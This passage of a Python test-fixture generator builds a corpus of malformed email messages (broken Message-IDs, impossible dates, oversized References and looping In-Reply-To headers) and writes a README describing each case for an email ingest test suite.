    std("Bad id", msgid="not an id <a@b> <c@d>") + PLAIN + "\n" + BODY)
add("message-id-huge", "a 4,000-character Message-ID",
    std("Huge id", msgid="<" + "i" * 4000 + "@example.org>") + PLAIN + "\n" + BODY)
add("date-absent", "no Date header",
    "From: jane@example.org\nTo: office@mp.example\nSubject: No date\nMessage-ID: <date-absent@example.org>\n" + PLAIN + "\n" + BODY)
add("date-malformed", "Date header that is not a date",
    std("Bad date").replace("Date: Mon, 03 Mar 2025 09:15:00 +0000", "Date: yesterday-ish, around teatime") + PLAIN + "\n" + BODY)
add("date-out-of-range-fields", "Date with impossible fields (32 Feb, 25:61:99, +9999)",
    std("Impossible date").replace("Date: Mon, 03 Mar 2025 09:15:00 +0000", "Date: Sun, 32 Feb 2025 25:61:99 +9999") + PLAIN + "\n" + BODY)
add("date-year-2999", "Date in the year 2999",
    std("From the future").replace("Date: Mon, 03 Mar 2025 09:15:00 +0000", "Date: Tue, 01 Jan 2999 00:00:00 +0000") + PLAIN + "\n" + BODY)
add("date-year-1900", "Date in 1900 (before the Unix epoch) with a two-digit-year twin header",
    std("From the past").replace("Date: Mon, 03 Mar 2025 09:15:00 +0000", "Date: Mon, 01 Jan 1900 00:00:00 +0000\nDate: 1 Jan 70 00:00 GMT") + PLAIN + "\n" + BODY)
add("references-500", "References header with 500 message ids",
    std("Re: Long thread", extra="In-Reply-To: <ref499@example.org>\nReferences: " + "\n ".join(f"<ref{i}@example.org>" for i in range(500)) + "\n")
    + PLAIN + "\n" + BODY)
add("in-reply-to", "In-Reply-To referencing an earlier reply of the office (<reply-1@mp.example>)",
    std("Re: Pothole on Station Road", msgid="<in-reply-to@example.org>", extra="In-Reply-To: <reply-1@mp.example>\nReferences: <pothole-on-station-road@example.org> <reply-1@mp.example>\n")
    + PLAIN + "\nThanks for your reply, but it is still there.\n")
add("in-reply-to-garbage", "In-Reply-To with several ids, free text and no brackets",
    std("Re: Something", extra="In-Reply-To: your message of Monday <a@b> \"quoted\" c@d <reply-1@mp.example>\n") + PLAIN + "\n" + BODY)
add("in-reply-to-self", "Message-ID and In-Reply-To/References are the same id (threading loop)",
    std("Loop", msgid="<loop@example.org>", extra="In-Reply-To: <loop@example.org>\nReferences: <loop@example.org>\n") + PLAIN + "\n" + BODY)


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        if old.endswith(".eml"):
            os.remove(os.path.join(OUT, old))
    names = [c[0] for c in CASES]
    assert len(names) == len(set(names)), "duplicate file names"
    total = 0
    for name, _note, _in_header, data in CASES:
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        total += len(data)
    rows = "\n".join(
        f"| `{name}` | {len(data):,} | {'header' if in_header else 'README only'} | {note.replace('|', '/')} |"
        for name, note, in_header, data in sorted(CASES, key=lambda c: c[0]))
    readme = f"""# Hostile email corpus

Malformed and hostile messages for the ingest tests: {len(CASES)} files, {total:,} bytes.
Generated by `../make_hostile_corpus.py` (deterministic; fixed seeds for random data). Do not edit the files by hand:
change the script and run `python3 tests/Correspondence.IntegrationTests/Corpus/make_hostile_corpus.py`.

Each file says what it tests in an `X-Corpus-Note:` header where that does not defeat the case (as the first
line, except after the BOM or the mbox `From ` line that must come first); "README only" marks files where a
header would defeat it (no headers at all, 0 bytes, binary garbage).

| file | bytes | note in | what it tests |
|---|---:|---|---|
{rows}
"""
    with open(os.path.join(OUT, "README.md"), "w", encoding="utf-8") as f:
        f.write(readme)
    assert total < MAX_TOTAL, f"corpus is {total} bytes, over {MAX_TOTAL}"
    print(f"wrote {len(CASES)} files, {total:,} bytes, to {OUT}")


if __name__ == "__main__":
    main()
